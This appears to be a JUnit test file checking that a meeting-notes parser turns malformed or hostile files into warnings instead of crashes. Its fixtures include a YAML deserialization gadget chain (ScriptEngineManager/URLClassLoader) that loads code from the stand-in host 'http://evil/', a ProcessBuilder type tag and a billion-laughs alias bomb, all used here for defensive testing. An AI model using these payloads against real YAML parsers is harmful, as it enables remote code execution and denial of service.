package dev.minutes.parse;

import static org.assertj.core.api.Assertions.assertThat;

import dev.minutes.notes.ActionItem;
import dev.minutes.notes.Diagnostic;
import dev.minutes.notes.Meeting;
import dev.minutes.people.PeopleDirectory;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Broken and hostile files: each yields a meeting with a diagnostic saying what and where, never an
 * exception, and the body is still read when there is one.
 */
class BadInputTest {
  private static final String BODY = "\n## TODOs\n\nBJ: fix it\n";

  private final NotesParser parser = new NotesParser(PeopleDirectory.empty());

  static Stream<Arguments> badFiles() {
    return Stream.of(
        Arguments.of(
            "malformed YAML",
            utf8("---\ntitle: [unclosed\n---\n" + BODY),
            "front-matter-invalid",
            2),
        Arguments.of(
            "type tag",
            utf8(
                "---\ntitle: !!javax.script.ScriptEngineManager"
                    + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]\n---\n"
                    + BODY),
            "front-matter-invalid",
            2),
        Arguments.of("alias bomb", utf8(billionLaughs() + BODY), "front-matter-invalid", 2),
        Arguments.of(
            "unclosed front matter",
            utf8("---\ntitle: never closed\n" + BODY),
            "front-matter-unclosed",
            1),
        Arguments.of(
            "tab-indented YAML",
            utf8("---\nparticipants:\n\t- BJ\n---\n" + BODY),
            "front-matter-invalid",
            3),
        Arguments.of(
            "invalid UTF-8",
            concat(utf8("---\ntitle: caf"), new byte[] {(byte) 0xE9}, utf8("\n---\n" + BODY)),
            "invalid-utf8",
            2),
        Arguments.of(
            "byte-order mark",
            concat(
                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                utf8("---\ntitle: t\n---\n" + BODY)),
            "byte-order-mark",
            1),
        Arguments.of(
            "CRLF line ends",
            utf8("---\r\ntitle: t\r\n---\r\n" + BODY.replace("\n", "\r\n")),
            "crlf-line-ends",
            1));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badFiles")
  void aRecoverableProblemIsAWarningWithItsLineAndTheBodyIsStillRead(
      String name, byte[] content, String code, int line) {
    Meeting meeting = parser.parse("notes/bad.md", content);

    assertThat(meeting.warnings())
        .filteredOn(d -> d.code().equals(code))
        .singleElement()
        .satisfies(
            d -> {
              assertThat(d.line()).isEqualTo(line);
              assertThat(d.message()).isNotBlank().doesNotContain("Exception", "\tat ");
            });
    assertThat(meeting.hasErrors()).isFalse();
    assertThat(meeting.actions()).extracting(a -> a.text()).containsExactly("fix it");
  }

  @Test
  void crlfLinesKeepTheirLineNumbersAndLoseTheCarriageReturn() {
    Meeting meeting =
        parser.parse(
            "crlf.md",
            utf8(
                "---\r\ntitle: Sync\r\ndatetime: 2024-03-04T11:00:00+02:00\r\n---\r\n"
                    + BODY.replace("\n", "\r\n")));

    assertThat(meeting.title()).isEqualTo("Sync");
    assertThat(meeting.datetime()).isNotNull();
    assertThat(meeting.actions().get(0).line()).isEqualTo(8);
  }

  @Test
  void aByteOrderMarkDoesNotHideTheFrontMatter() {
    Meeting meeting =
        parser.parse(
            "bom.md",
            concat(
                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                utf8("---\ntitle: Sync\n---\n")));

    assertThat(meeting.title()).isEqualTo("Sync");
    assertThat(meeting.warnings())
        .extracting(Diagnostic::code)
        .doesNotContain("front-matter-missing");
  }

  @Test
  void tabsInTheBodyDoNotStopTheParse() {
    Meeting meeting = parser.parse("tabs.md", utf8("## TODOs\n\n-\tBJ: fix\tit\n"));

    assertThat(meeting.actions()).extracting(a -> a.text()).containsExactly("fix\tit");
  }

  @Test
  void aTypeTagIsNeverInstantiated() {
    Meeting meeting =
        parser.parse(
            "tag.md",
            utf8(
                "---\nparticipants: !!java.util.ArrayList [BJ]\ntitle: !!java.lang.ProcessBuilder [x]\n---\n"));

    assertThat(meeting.participants()).isEmpty();
    assertThat(meeting.title()).isNull();
  }

  static Stream<Arguments> overDeepLines() {
    return Stream.of(
        Arguments.of("2000 bullet markers", "- ".repeat(2000) + "RD: x"),
        Arguments.of("10000 ordered-list markers", "1. ".repeat(10000) + "RD: x"),
        Arguments.of("100000 quote markers", ">".repeat(100000) + "RD: x"),
        Arguments.of("mixed markers and tabs", "> -\t1) ".repeat(3000) + "RD: x"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("overDeepLines")
  void aLineNestedDeeperThanNotesCanNestIsFlattenedWithAWarningNamingItsLine(
      String name, String line) {
    Meeting meeting =
        parser.parse("deep.md", utf8("# Action items\n" + line + "\n\n## TODOs\n\nBJ: fix it\n"));

    assertThat(meeting.warnings())
        .filteredOn(d -> d.code().equals("nesting-too-deep"))
        .singleElement()
        .satisfies(d -> assertThat(d.line()).isEqualTo(2));
    assertThat(meeting.actions()).extracting(a -> a.text()).contains("fix it");
  }

  @Test
  void anUnclosedCommentInsideALongParagraphIsReadAsTextWithAWarningNamingItsLine() {
    // From the fuzz test: flexmark's inline-comment pattern recursed once per character of the
    // paragraph after an unclosed "<!--" and overflowed the stack.
    String notes =
        "## TODOs\n\nBJ: fix it\n\n*Ben Smith*\n   x <!--"
            + " word".repeat(3000)
            + "\n"
            + "more words on the next line\n".repeat(400)
            + "\nActual text\n";

    Meeting meeting = parser.parse("comment.md", utf8(notes));

    assertThat(meeting.actions()).extracting(ActionItem::text).containsExactly("fix it");
    assertThat(meeting.warnings())
        .filteredOn(d -> d.code().equals("html-comment-too-long"))
        .singleElement()
        .satisfies(d -> assertThat(d.line()).isEqualTo(6));
  }

  @Test
  void aShortCommentInsideAParagraphIsLeftAsWritten() {
    Meeting meeting =
        parser.parse("comment.md", utf8("## TODOs\n\nBJ: fix it <!-- not yet --> today\n"));

    assertThat(meeting.warnings()).noneMatch(d -> d.code().equals("html-comment-too-long"));
    assertThat(meeting.actions()).hasSize(1);
  }

  @Test
  void aStaircaseOfEverDeeperItemsIsReadToTheEnd() {
    StringBuilder notes = new StringBuilder("## TODOs\n\n");
    for (int i = 0; i < 600; i++) {
      notes.append("  ".repeat(i)).append("- BJ: step ").append(i).append('\n');
    }

    Meeting meeting = parser.parse("stairs.md", utf8(notes.toString()));

    assertThat(meeting.actions()).hasSize(600);
    assertThat(meeting.warnings())
        .filteredOn(d -> d.code().equals("nesting-too-deep"))
        .first()
        .satisfies(d -> assertThat(d.line()).isEqualTo(3 + NestingLimit.MAX_INDENT / 2 + 1));
  }

  static Stream<Arguments> unreadableFiles() {
    byte[] tooLarge = new byte[NotesParser.MAX_FILE_BYTES + 1];
    Arrays.fill(tooLarge, (byte) 'a');
    return Stream.of(
        Arguments.of("empty file", new byte[0], "empty-file"),
        Arguments.of("only whitespace", utf8(" \n\n\t\n"), "empty-file"),
        Arguments.of("binary file", new byte[] {'P', 'K', 3, 4, 0, 0, 1, 2}, "binary-file"),
        Arguments.of("file above the size limit", tooLarge, "file-too-large"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("unreadableFiles")
  void aFileThatIsNotNotesIsAnErrorAndAnEmptyMeeting(String name, byte[] content, String code) {
    Meeting meeting = parser.parse("notes/2024-03-04-x.md", content);

    assertThat(meeting.hasErrors()).isTrue();
    assertThat(meeting.warnings()).extracting(Diagnostic::code).containsExactly(code);
    assertThat(meeting.source()).isEqualTo("notes/2024-03-04-x.md");
    assertThat(meeting.actions()).isEmpty();
    assertThat(meeting.agenda()).isEmpty();
  }

  @Test
  void aFileExactlyAtTheSizeLimitIsRead() {
    byte[] content = new byte[NotesParser.MAX_FILE_BYTES];
    Arrays.fill(content, (byte) '\n');
    byte[] body = utf8("## TODOs\n\nBJ: fix it\n");
    System.arraycopy(body, 0, content, 0, body.length);

    Meeting meeting = parser.parse("big.md", content);

    assertThat(meeting.hasErrors()).isFalse();
    assertThat(meeting.actions()).hasSize(1);
  }

  @Test
  void aBinaryFileNamesTheLineOfItsFirstNulByte() {
    Meeting meeting = parser.parse("b.md", utf8("one\ntwo\nthree\u0000"));

    assertThat(meeting.warnings().get(0).line()).isEqualTo(3);
  }

  @Test
  void anUnreadableFileIsAnErrorMeetingWithTheReason() {
    Meeting meeting = parser.unreadable("gone.md", "permission denied");

    assertThat(meeting.hasErrors()).isTrue();
    assertThat(meeting.warnings().get(0).message()).contains("permission denied");
  }

  private static String billionLaughs() {
    StringBuilder yaml =
        new StringBuilder(
            "---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    char previous = 'a';
    for (char c = 'b'; c <= 'i'; c++) {
      yaml.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 9; i++) {
        yaml.append(i == 0 ? "" : ",").append('*').append(previous);
      }
      yaml.append("]\n");
      previous = c;
    }
    return yaml.append("---\n").toString();
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }
}
